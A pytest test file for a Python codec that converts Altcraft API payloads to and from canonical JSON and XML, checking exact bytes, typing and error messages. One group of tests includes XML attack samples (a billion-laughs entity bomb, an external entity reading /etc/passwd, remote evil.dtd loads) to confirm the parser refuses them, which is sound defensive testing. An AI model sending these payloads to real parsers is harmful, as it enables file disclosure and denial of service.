"""Canonical JSON and Altcraft XML: exact bytes, typing on the way back, unsafe input refused."""

import enum
import re

import pytest

from altcraft.codec import (
    PayloadError,
    decode,
    decode_response,
    detect_format,
    encode,
    encode_json,
    encode_xml,
)


def test_json_is_compact_utf8_in_the_given_key_order():
    payload = {"db_id": 1, "data": {"_fname": "Ольга", "email": "o@example.com"}, "a": True}

    assert encode_json(payload) == (
        '{"db_id":1,"data":{"_fname":"Ольга","email":"o@example.com"},"a":true}'.encode()
    )


def test_json_indent_for_people():
    assert encode_json({"a": [1]}, pretty=True) == b'{\n  "a": [\n    1\n  ]\n}'


@pytest.mark.parametrize("value", [object(), "\ud800", 2**64, {1: "a"}])
def test_json_refuses_what_it_cannot_write(value):
    with pytest.raises(PayloadError, match="cannot be written as JSON"):
        encode_json({"a": value})


def test_json_refuses_a_payload_that_contains_itself():
    payload: dict = {"db_id": 1}
    payload["data"] = [payload]
    with pytest.raises(PayloadError, match="cannot be written as JSON"):
        encode_json(payload)


def test_xml_marks_every_array_item_and_writes_booleans_as_words():
    payload = {"db_id": 1, "skip_triggers": False, "data": [{"phones": ["+79000000000"]}]}

    assert encode_xml(payload) == (
        b"<xml><db_id>1</db_id><skip_triggers>false</skip_triggers>"
        b"<data array='true'><phones array='true'>+79000000000</phones></data></xml>"
    )


def test_xml_escapes_markup_and_keeps_text_exact():
    value = "a < b && c > d ]]> \"quoted\" 'single' \r\n emoji 🎉 Ё"

    body = encode_xml({"data": {"_fname": value}})

    assert b"&lt; b &amp;&amp; c &gt; d ]]&gt;" in body
    assert decode(body, "xml")["data"]["_fname"] == value


def test_xml_writes_empty_arrays_and_objects_as_empty_elements():
    assert encode_xml({"data": {}, "cats": []}) == b"<xml><data/><cats/></xml>"


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        ({"data": {"bad key": 1}}, "data['bad key']: 'bad key' is not a valid XML element name"),
        ({"data": {"1st": 1}}, "data['1st']: '1st' is not a valid XML element name"),
        ({"ns:name": 1}, "['ns:name']: 'ns:name' is not a valid XML element name"),
        ({"data": {"_fname": "bell\x07"}}, "data._fname: contains character U+0007"),
        ({"data": {"tags": [["nested"]]}}, "data.tags: arrays of arrays cannot be written"),
        ({"score": float("nan")}, "score: a number that is not finite cannot be sent"),
        ({"when": object()}, "when: a object value cannot be written"),
    ],
)
def test_xml_refuses_what_xml_cannot_carry_and_says_where(payload, message):
    with pytest.raises(PayloadError, match="^" + re.escape(message)):
        encode_xml(payload)


def test_encode_by_format_name():
    assert encode({"a": 1}, "json") == b'{"a":1}'
    assert encode({"a": 1}, "xml") == b"<xml><a>1</a></xml>"
    with pytest.raises(PayloadError, match="unknown format 'csv'"):
        encode({"a": 1}, "csv")


def test_xml_values_are_typed_by_the_contract():
    body = (
        b"<xml><db_id>1</db_id><detect_geo>true</detect_geo><matching>email</matching>"
        b"<data><_sex>0</_sex><_postal_code>390000</_postal_code><phones>+79511059000</phones>"
        b"<subscriptions><resource_id>7</resource_id><status>0</status>"
        b"<cc_data><id>12345</id></cc_data></subscriptions></data></xml>"
    )

    assert decode(body, "xml", operation="profiles/import") == {
        "db_id": 1,
        "detect_geo": True,
        "matching": "email",
        "data": {
            "_sex": 0,
            "_postal_code": "390000",
            "phones": ["+79511059000"],
            "subscriptions": [{"resource_id": 7, "status": 0, "cc_data": {"id": 12345}}],
        },
    }


def test_text_that_does_not_fit_its_type_stays_text_for_validation_to_name():
    body = b"<xml><db_id>one</db_id><detect_geo>yes</detect_geo></xml>"

    assert decode(body, "xml") == {"db_id": "one", "detect_geo": "yes"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [("7", 7), ("007", 7), ("-5", -5), ("-0", 0), ("", ""), ("١٢", "١٢"), ("²", "²"),
     ("+1", "+1"), ("1_000", "1_000"), (" 1", " 1"), ("1.0", "1.0"), ("--1", "--1")],
)  # fmt: skip
def test_only_ascii_digits_with_an_optional_minus_make_an_integer(text, expected):
    value = decode(f"<xml><db_id>{text}</db_id></xml>".encode(), "xml")["db_id"]

    assert value == expected
    assert type(value) is type(expected)


def test_custom_fields_are_typed_when_their_types_are_given_else_strings():
    body = (
        b"<xml><data><visits>3</visits><score>1.5</score><vip>true</vip>"
        b"<labels>a</labels><since>2001-12-31</since></data></xml>"
    )
    types = {"visits": "int", "score": "float", "vip": "bool", "labels": "tags"}

    assert decode(body, "xml", custom_field_types=types)["data"] == {
        "visits": 3,
        "score": 1.5,
        "vip": True,
        "labels": ["a"],
        "since": "2001-12-31",
    }
    assert decode(body, "xml")["data"]["visits"] == "3"


def test_custom_matching_value_follows_its_field_type():
    body = (
        b"<xml><matching>custom</matching><field_name>uid</field_name>"
        b"<field_value>42</field_value></xml>"
    )

    assert decode(body, "xml", custom_field_types={"uid": "int"})["field_value"] == 42
    assert decode(body, "xml")["field_value"] == "42"


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        (b"<cats array='true'>a</cats>", ["a"]),
        (b"<cats>a</cats>", ["a"]),
        (b"<cats>a</cats><cats>b</cats>", ["a", "b"]),
        (b"<cats array='true'>a</cats><cats>b</cats>", ["a", "b"]),
        (b"<cats/>", []),
        (b"<cats array='true'/>", [""]),
        (b'<cats array="true"></cats>', [""]),
    ],
)
def test_array_rules(xml, expected):
    body = b"<xml><data><subscriptions array='true'>" + xml + b"</subscriptions></data></xml>"

    assert decode(body, "xml")["data"]["subscriptions"][0]["cats"] == expected


def test_unknown_keys_become_lists_only_when_repeated_or_marked():
    body = (
        b"<xml><content><one>1</one><two>a</two><two>b</two>"
        b"<three array='true'>c</three></content></xml>"
    )

    assert decode(body, "xml")["content"] == {"one": "1", "two": ["a", "b"], "three": ["c"]}


def test_batch_data_is_a_list_even_with_one_unmarked_profile():
    body = b"<xml><db_id>1</db_id><data><_fname>A</_fname></data></xml>"

    assert decode(body, "xml", operation="profiles/add_batch")["data"] == [{"_fname": "A"}]


def test_functional_updates_in_xml_get_their_values_typed_by_action():
    body = (
        b"<xml><profile_id>p</profile_id><data>"
        b"<checks><action>incr</action><value>-1000</value></checks>"
        b"<category><action>add</action><value>cars</value></category>"
        b"<gone><action>unset</action></gone></data></xml>"
    )

    assert decode(body, "xml", operation="profiles/update")["data"] == {
        "checks": {"action": "incr", "value": -1000},
        "category": {"action": "add", "value": ["cars"]},
        "gone": {"action": "unset"},
    }


@pytest.mark.parametrize(("mark", "listed"), [(b"", False), (b" array='true'", True)])
def test_a_functional_update_of_an_array_field_is_a_list_only_when_marked(mark, listed):
    body = (
        b"<xml><profile_id>p</profile_id><data><labels" + mark + b">"
        b"<action>add</action><value>x</value></labels></data></xml>"
    )
    update = {"action": "add", "value": ["x"]}

    data = decode(body, "xml", operation="profiles/update", custom_field_types={"labels": "tags"})

    assert data["data"]["labels"] == ([update] if listed else update)


def test_whitespace_between_elements_is_ignored_and_a_declaration_is_fine():
    body = (
        b'<?xml version="1.0" encoding="UTF-8" ?>\n'
        b"<xml>\n  <db_id> 1 </db_id>\n  <data>\n  </data>\n</xml>\n"
    )

    assert decode(body, "xml") == {"db_id": " 1 ", "data": {}}


def test_declared_single_byte_encodings_are_read():
    body = (
        '<?xml version="1.0" encoding="windows-1251"?>'
        "<xml><data><_fname>Ольга</_fname></data></xml>"
    )

    assert decode(body.encode("cp1251"), "xml") == {"data": {"_fname": "Ольга"}}


def test_utf16_with_a_byte_order_mark_is_read():
    body = "<xml><data><_fname>Ольга</_fname></data></xml>".encode("utf-16")

    assert decode(body, "xml") == {"data": {"_fname": "Ольга"}}


def test_namespaces_and_prefixes_are_read_as_written():
    body = (
        b"<xml xmlns='urn:x' xmlns:p='urn:p'><db_id>1</db_id><p:a>2</p:a>"
        b"<xml:lang>ru</xml:lang><q:b array='true'>3</q:b></xml>"
    )

    assert decode(body, "xml") == {"db_id": 1, "p:a": "2", "xml:lang": "ru", "q:b": ["3"]}


def big_batch(count: int = 3000) -> dict:
    return {
        "db_id": 1,
        "data": [
            {
                "email": f"user{i}@example.com",
                "_fname": "Ольга & <Ltd>",
                "phones": ["+79000000000"],
                "subscriptions": [{"resource_id": i, "channel": "email", "cats": ["a", "b"]}],
            }
            for i in range(count)
        ],
    }


def test_a_large_batch_is_read_whole():
    payload = big_batch()
    body = encode_xml(payload)

    assert len(body) > 500_000  # many times what the parser reads at once
    assert decode(body, "xml", operation="profiles/import_batch") == payload


def test_errors_far_into_a_large_body_are_found_where_they_are():
    body = encode_xml(big_batch())
    wrong_end = body.replace(b"</xml>", b"</xmk>")
    deep_at_end = body.replace(b"</xml>", b"<a>" * 100 + b"</a>" * 100 + b"</xml>")
    # The position is the end tag's name, in characters (not bytes) from 1.
    column = len(body.decode()) - len("xml>") + 1

    with pytest.raises(
        PayloadError, match=f"^malformed XML: mismatched tag at line 1, column {column}$"
    ):
        decode(wrong_end, "xml")
    with pytest.raises(PayloadError, match="^elements are nested more than 64 deep$"):
        decode(deep_at_end, "xml")


def test_nesting_is_refused_from_the_65th_level_on():
    def nested(levels: int) -> bytes:  # the root is the first level
        return b"<xml>" + b"<a>" * (levels - 1) + b"1" + b"</a>" * (levels - 1) + b"</xml>"

    assert decode(nested(64), "xml")["a"]["a"]
    with pytest.raises(PayloadError, match="^elements are nested more than 64 deep$"):
        decode(nested(65), "xml")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<xml><data><_fname>&lol3;</_fname></data></xml>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><token>&secret;</token></xml>"""
PARAMETER_ENTITY = b"""<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd">%remote;]>
<xml/>"""
EXTERNAL_DTD = b'<!DOCTYPE xml SYSTEM "http://example.com/evil.dtd"><xml/>'


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        PARAMETER_ENTITY,
        EXTERNAL_DTD,
        b"<!DOCTYPE xml><xml/>",
        # Behind the other things a prolog may hold, or in another encoding.
        b'\xef\xbb\xbf<?xml version="1.0"?>\n<?pi x?><!-- c --><!DOCTYPE xml><xml/>',
        b'<!-- a --><!DOCTYPE xml [<!ENTITY e "x">]><!-- b --><xml>&e;</xml>',
        b'<!-- a --><!DOCTYPE xml [<!ENTITY e "-->">]><xml>&e;</xml>',
        b'<?pi ?><!DOCTYPE xml [<!ENTITY e "?>">]><xml>&e;</xml>',
        '<!DOCTYPE xml [<!ENTITY e "x">]><xml>&e;</xml>'.encode("utf-16"),
        b'<?xml version="1.0" encoding="latin-1"?><!DOCTYPE xml><xml/>',
    ],
)
def test_dtds_and_entities_are_refused_with_a_clear_message(body):
    with pytest.raises(PayloadError, match="document type declaration or entities is refused"):
        decode(body, "xml")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"<xml><db_id>1</db_id>", "malformed XML: no element found at line 1, column 22"),
        (b"<xml>\n<a>&nbsp;</a></xml>", "malformed XML: undefined entity at line 2, column 4"),
        (b"<xml><a>1</b></xml>", "malformed XML: mismatched tag at line 1, column 12"),
        (b"<xml>\xff</xml>", "malformed XML: not well-formed (invalid token) at line 1, column 6"),
        (b"", "malformed XML: no element found at line 1, column 1"),
        (b"<root><a>1</a></root>", "the root element must be <xml>, not <root>"),
        (b"<xml>" + b"<a>" * 100 + b"</a>" * 100 + b"</xml>", "elements are nested more than 64"),
        (b"<xml>" + b"<a>" * 100, "elements are nested more than 64"),
        (b"<xml><a/>\n<b>&e;</b></xml>", "malformed XML: undefined entity at line 2, column 4"),
        (
            b"<xml xmlns='u'><a>1</a></xml>junk",
            "malformed XML: junk after document element at line 1, column 30",
        ),
    ],
)
def test_malformed_xml_is_reported_with_its_position(body, message):
    with pytest.raises(PayloadError, match="^" + re.escape(message)):
        decode(body, "xml")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b'{"db_id": 1,\n "data": {]}',
         "malformed JSON: Expecting property name enclosed in double quotes at line 2, column 11"),
        (b'{"a": NaN}', "malformed JSON: NaN is not a JSON value"),
        (b"[1, 2]", "the JSON body must be an object"),
        (b'{"a": "\xff"}', "the body is not valid UTF-8 (byte 7)"),
        (b"[" * 100_000 + b"]" * 100_000, "malformed JSON: nested too deeply"),
        (b'{"a": ' + b"9" * 5000 + b"}", "malformed JSON: Exceeds the limit"),
    ],
)  # fmt: skip
def test_malformed_json_is_reported_with_its_position(body, message):
    with pytest.raises(PayloadError, match="^" + re.escape(message)):
        decode(body, "json")


def test_a_utf8_byte_order_mark_is_accepted():
    assert decode(b'\xef\xbb\xbf{"a": 1}', "json") == {"a": 1}


@pytest.mark.parametrize(
    ("body", "content_type", "expected"),
    [
        (b"{}", "application/json; charset=utf-8", "json"),
        (b"<xml/>", "application/xml", "xml"),
        (b"<xml/>", "text/xml", "xml"),
        (b"  \n<xml/>", None, "xml"),
        (b'\xef\xbb\xbf{"a":1}', "text/plain", "json"),
    ],
)
def test_detect_format(body, content_type, expected):
    assert detect_format(body, content_type) == expected


def test_detect_format_refuses_to_guess():
    with pytest.raises(PayloadError, match="cannot tell whether the body is JSON or XML"):
        detect_format(b"token=abc")


def test_decode_refuses_unknown_formats():
    with pytest.raises(PayloadError, match="unknown format"):
        decode(b"{}", "yaml")


def test_batch_response_result_is_always_a_list():
    body = (
        b"<xml><error>0</error><error_text>Successful operation</error_text>"
        b"<result><error>0</error><error_text>ok</error_text><profile_id>p1</profile_id></result></xml>"
    )

    assert decode_response(body, "xml") == {
        "error": 0,
        "error_text": "Successful operation",
        "result": [{"error": 0, "error_text": "ok", "profile_id": "p1"}],
    }


def test_list_response_data_is_a_list_and_get_response_data_an_object():
    listing = b"<xml><data><id>1</id></data><error>0</error><next_from_id>2</next_from_id></xml>"
    get = b"<xml><data><id>1</id><dbs_ids>1</dbs_ids></data><error>0</error></xml>"
    empty = b"<xml><data/><error>0</error></xml>"

    assert decode_response(listing, "xml")["data"] == [{"id": 1}]
    assert decode_response(get, "xml")["data"] == {"id": 1, "dbs_ids": [1]}
    assert decode_response(empty, "xml", method="databases/list/")["data"] == []


def test_responses_that_cannot_be_read_raise_payload_error():
    with pytest.raises(PayloadError, match="must be an object"):
        decode_response(b"[]", "json")
    with pytest.raises(PayloadError, match="malformed XML"):
        decode_response(b"<xml>", "xml")


def test_an_xml_number_too_long_for_python_stays_text_for_validation_to_name():
    body = f"<xml><db_id>{'9' * 5000}</db_id></xml>".encode()
    payload = decode(body, "xml", operation="profiles/import")

    assert payload["db_id"] == "9" * 5000


def test_xml_writes_subclasses_of_str_and_int_by_their_values_as_json_does():
    class Shown(str):
        def __str__(self) -> str:
            return "shown"

    class Level(enum.IntEnum):
        GOLD = 3

    payload = {"name": Shown("Olly"), "level": Level.GOLD, "tags": [Shown("a & b")]}

    assert encode_xml(payload) == (
        b"<xml><name>Olly</name><level>3</level><tags array='true'>a &amp; b</tags></xml>"
    )
    assert encode_json(payload) == b'{"name":"Olly","level":3,"tags":["a & b"]}'
